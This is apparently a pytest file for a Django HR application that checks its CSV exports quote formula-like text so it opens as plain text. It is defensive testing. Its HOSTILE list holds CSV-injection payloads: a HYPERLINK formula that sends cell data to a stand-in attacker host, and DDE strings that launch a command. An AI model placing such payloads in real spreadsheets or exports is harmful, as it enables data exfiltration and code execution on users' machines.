"""No CSV we write runs as a formula: every CSV export, filled with formula-like text, opens as text.

The export routes are read from the URLconf (anything whose path or name says CSV); a new CSV
export fails `test_every_csv_export_is_covered` until it is added to EXPORTS below.
"""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.db import models
from django.test import Client
from django.urls import reverse

from competentie.safecsv import FORMULA_STARTS, restore_cell, safe_cell
from frameworks.interchange import moodle
from frameworks.interchange.selectors import framework_for_export
from frameworks.models import BehaviouralIndicator, Competency, Framework, GuidingQuestion, ProficiencyLevel
from tests.factories import make_framework
from tests.routes import ROUTES
from zelfevaluatie import models as round_models
from zelfevaluatie import services as round_services

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://kwaadwillend.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile(index: int) -> str:
    return HOSTILE[index % len(HOSTILE)]


def overwrite_text_fields(queryset, start=0) -> None:
    """Every free-text field (no choices) of every row: formula-like text."""
    model = queryset.model
    fields = [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField) and not f.choices and not f.unique
    ]
    for offset, obj in enumerate(queryset):
        for field in fields:
            value = hostile(start + offset)[: field.max_length] if field.max_length else hostile(start + offset)
            setattr(obj, field.attname, value)
        obj.save(update_fields=[f.attname for f in fields])


def round_csv(users, org_a, org_b):
    from competentie.organisations.models import Membership
    from tests.factories import make_user

    vth = Framework.objects.get(organisation__isnull=True, name="VTH competentieprofielen")
    round = round_services.round_create(
        organisation=org_a,
        framework=vth,
        period="2025–2026",
        user=users["mt"],
        contact_name="Anna",
        contact_function="teamleider",
        participants=[users["selecteur"]],
    )
    reviewer = make_user("collega_beekdal", organisation=org_b, role=Membership.Role.MANAGEMENT)
    review = round_services.peer_review_invite(round=round, username=reviewer.username, invited_by=users["mt"])
    question = lambda purpose: GuidingQuestion.objects.filter(  # noqa: E731
        question_set__framework=vth, question_set__purpose=purpose
    ).order_by("order")[0]
    for participant in round.participants.all():
        for rp in round.round_profiles.select_related("profile"):
            round_services.rating_save(participant=participant, profile=rp.profile, score=3, justification="x")
            round_services.hulpvraag_answer_save(
                participant=participant, profile=rp.profile, question_id=question("self_evaluation").pk, text="x"
            )
            round_services.conclusion_save(
                round=round, profile=rp.profile, agreed_score=3, justification="x", user=users["mt"]
            )
    round_services.conclusion_answer_save(
        round=round, question_id=question("conclusions").pk, text="x", user=users["mt"]
    )
    round_services.peer_note_save(peer_review=review, question_id=question("peer_review").pk, text="x")
    round_services.action_create(round=round, what="x", measure="x", owner="x", deadline=datetime.date(2027, 3, 1))
    for index, model in enumerate(
        [round_models.Rating, round_models.Answer, round_models.ProfileConclusion, round_models.PeerReviewNote]
    ):
        overwrite_text_fields(model.objects.filter(pk__in=model.objects.values("pk")), start=index)
    overwrite_text_fields(round_models.Action.objects.filter(round=round))
    round_models.EvaluationRound.objects.filter(pk=round.pk).update(
        contact_name=HOSTILE[0], contact_function=HOSTILE[1]
    )
    for user in (users["mt"], users["selecteur"], reviewer):
        user.first_name, user.last_name = HOSTILE[3], HOSTILE[2]
        user.save()
    client = Client()
    client.force_login(users["mt"])
    return client, reverse("zelfevaluatie:round-csv", args=[round.pk]), ";"


def moodle_csv(users, org_a, org_b):
    framework = make_framework(org_a, name="Te exporteren")
    level = ProficiencyLevel.objects.create(framework=framework, name="x", order=1)
    competency = Competency.objects.create(framework=framework, name="x", definition="x", order=1)
    BehaviouralIndicator.objects.create(competency=competency, level=level, text="x", order=1)
    for index, queryset in enumerate(
        [
            Framework.objects.filter(pk=framework.pk),
            ProficiencyLevel.objects.filter(framework=framework),
            Competency.objects.filter(framework=framework),
            BehaviouralIndicator.objects.filter(competency__framework=framework),
        ]
    ):
        overwrite_text_fields(queryset, start=index)
    client = Client()
    client.force_login(users["hr"])
    return client, reverse("frameworks:framework-export-csv", args=[framework.pk]), ","


def cohort_results_csv(users, org_a, org_b):
    """A cohort of five whose programme, competencies and levers carry formula-like names."""
    from ontwikkeling.models import Programme
    from tests.ontwikkeling.conftest import build_cohort, build_programme, fill_in

    programme = build_programme(org_a, users["hr"], name="Formules")
    phase = programme.phases.order_by("order").first()
    for order in range(10, 13):  # five programme competencies in all, so enough cells carry formulas
        phase.competencies.add(
            Competency.objects.create(framework=programme.framework, name=f"Extra {order}", definition="x", order=order)
        )
    cohort, _coach, participants = build_cohort(programme, size=5)
    for participant in participants:
        fill_in(participant, "voormeting")
    overwrite_text_fields(Programme.objects.filter(pk=programme.pk))
    overwrite_text_fields(Competency.objects.filter(framework=programme.framework), start=1)
    client = Client()
    client.force_login(users["hr"])
    return client, reverse("ontwikkeling:cohort-results-csv", args=[cohort.pk]), ";"


def fairness_csv(users, org_a, org_b):
    """Fairness figures of a procedure whose name is a formula: every row carries the name."""
    from selectie import selectors as selection_selectors
    from selectie import services as selection_services
    from selectie.models import Exercise, SelectionProcedure

    profile = selection_selectors.frozen_profiles(user=users["hr"]).first()
    procedure = selection_services.procedure_create(
        user=users["hr"], organisation=org_a, name='=HYPERLINK("http://x")', profile=profile
    )
    selection_services.exercise_create(procedure=procedure, name="Cv", phase=Exercise.Phase.PRESELECTION)
    selection_services.candidate_create(procedure=procedure, name="Kandidaat")
    selection_services.fairness_setup_save(organisation=org_a, characteristics=["gender", "age", "origin", "education"])
    assert SelectionProcedure.objects.filter(pk=procedure.pk).exists()
    client = Client()
    client.force_login(users["hr"])
    return client, reverse("selectie:fairness-csv", args=[procedure.pk]), ";"


def team_overview_csv(users, org_a, org_b):
    """The medewerkers team overview: four employees whose names are formulas."""
    from competentie.people.models import Employee

    from ..medewerkers.conftest import build_team, open_cycle

    team, _manager, employees = build_team(org_a, size=4, manager=users["mt"])
    for number, employee in enumerate(employees):
        Employee.objects.filter(pk=employee.pk).update(name=HOSTILE[number % len(HOSTILE)])
    cycle = open_cycle(team)
    client = Client()
    client.force_login(users["hr"])
    return client, reverse("medewerkers:team-overview-csv", args=[cycle.pk]), ";"


def feedback_csv(users, org_a, org_b):
    """Three colleagues answered: the group is shown, with the profile's formula-like competency names."""
    from medewerkers.services import raters
    from tests.feedback.conftest import build_team

    team = build_team(org_a, users["hr"], colleagues=3)
    for colleague in team.colleagues:
        invitation = raters.rater_invite_colleague(
            cycle=team.cycle, employee=team.employee, username=colleague.username, user=team.employee.user
        )
        answers = {pc.pk: (4, "") for pc in team.competencies}
        raters.rater_respond(invitation=invitation, answers=answers, scale_values=range(1, 7))
    overwrite_text_fields(Competency.objects.filter(pk__in=[pc.competency_id for pc in team.competencies]))
    client = Client()
    client.force_login(users["hr"])
    return client, reverse("feedback:csv", args=[team.cycle.pk, team.employee.pk]), ";"


EXPORTS = {
    "medewerkers:team-overview-csv": team_overview_csv,
    "feedback:csv": feedback_csv,
    "selectie:fairness-csv": fairness_csv,
    "zelfevaluatie:round-csv": round_csv,
    "frameworks:framework-export-csv": moodle_csv,
    "ontwikkeling:cohort-results-csv": cohort_results_csv,
}


def test_every_csv_export_is_covered():
    csv_routes = {name for name, route in ROUTES if ".csv" in route or "csv" in name.lower()}
    assert csv_routes == set(EXPORTS), "add the new CSV export to EXPORTS in this test"


def test_every_csv_the_product_writes_uses_the_safe_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.glob("*/**/*.py")
        if not path.is_relative_to(root / "tests")
        and ".venv" not in path.parts
        and path != root / "competentie" / "safecsv.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "write CSV through competentie.safecsv.safe_writer"


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_a_csv_export_full_of_formulas_opens_as_text(name, users, org_a, org_b, seeded):
    client, url, delimiter = EXPORTS[name](users, org_a, org_b)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == []
    guarded = [cell for cell in cells if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)]
    assert len(guarded) >= 4, "the hostile text must have reached the file"


@pytest.mark.parametrize("value", HOSTILE + ["-", "=", "'=already quoted", "''+twice"])
def test_safe_cell_quotes_formula_text_and_restore_cell_undoes_it(value):
    assert not safe_cell(value).startswith(FORMULA_STARTS)
    assert restore_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["Anna", "", "3 sessies", " =spatie eerst", -3, 4.5, None])
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value


def test_moodle_export_of_formula_like_names_reads_back_unchanged(org_a, users):
    framework = make_framework(org_a, name="=Formule als naam")
    Competency.objects.create(framework=framework, name="-Min als begin", definition="@Apenstaart", order=1)
    data = moodle.framework_to_moodle_csv(framework_for_export(user=users["hr"], pk=framework.pk))
    assert "'=Formule als naam" in data
    imported = moodle.framework_import_moodle_csv(raw=data.encode(), organisation=org_a, user=users["hr"])
    assert imported.name == "=Formule als naam"
    assert imported.competencies.filter(name="-Min als begin", definition="@Apenstaart").exists()
